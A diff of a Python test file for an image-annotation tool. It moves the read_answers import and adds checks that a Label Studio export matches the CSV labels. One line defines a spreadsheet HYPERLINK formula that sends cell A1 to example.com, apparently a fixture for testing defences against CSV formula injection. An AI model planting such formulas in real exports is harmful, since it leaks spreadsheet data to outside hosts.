@@ -9,13 +9,14 @@ import pandas as pd
 import pytest
 import yaml
 
+from bias_core.annotation.answers import read_answers
 from bias_core.annotation.collected import COLUMNS, answers_frame, export_labels, labelled_items
 from bias_core.annotation.label_store import LabelStore
 from bias_core.annotation.rating import delete_my_answers, join
 from bias_core.annotation.task_owner import OwnerKey, create_task, set_status
 from bias_core.annotation.tasks import pst_task
 from bias_core.errors import NotAllowed, StorageError
-from bias_core.studies.kit.labels import majority, read_answers
+from bias_core.studies.kit.labels import majority
 from tests.annotation.raters import CHOICES, GOLD, open_task, pictures, say_all
 
 FORMULA = '=HYPERLINK("http://example.com?x="&A1,"<b>nurse</b>")'
@@ -57,10 +58,14 @@ def unpacked(store, key, folder):
 
 
 def test_the_csv_is_what_the_studies_read_and_every_table_says_the_same(store, task, out):
-    read = read_answers(str(out / "labels.csv"), allowed=task.task.answer_keys)
+    read = read_answers(str(out / "labels.csv"))
     left = read[(read["position"] == "left") & read["image_id"].isin(["picture-0", "picture-1", "picture-2"])]
     assert majority(left).to_dict() == dict.fromkeys(["picture-0", "picture-1", "picture-2"], "feminine")
     assert len(left) == 9
+    studio, of_a_person = read_answers(str(out / "label_studio" / "tasks.json")), ["image_id", "position", "rater"]
+    ordinary = read[read["image_id"].isin(studio["image_id"])].sort_values(of_a_person)
+    assert studio.sort_values(of_a_person)["answer"].tolist() == ordinary["answer"].tolist()
+    assert "picture-3" not in set(studio["image_id"])  # its answer is known
     frame = answers_frame(store, task.key)
     assert list(frame) == [*COLUMNS]
     assert len(frame) == 2 * len(set(zip(frame["image_id"], frame["rater"], strict=True)))
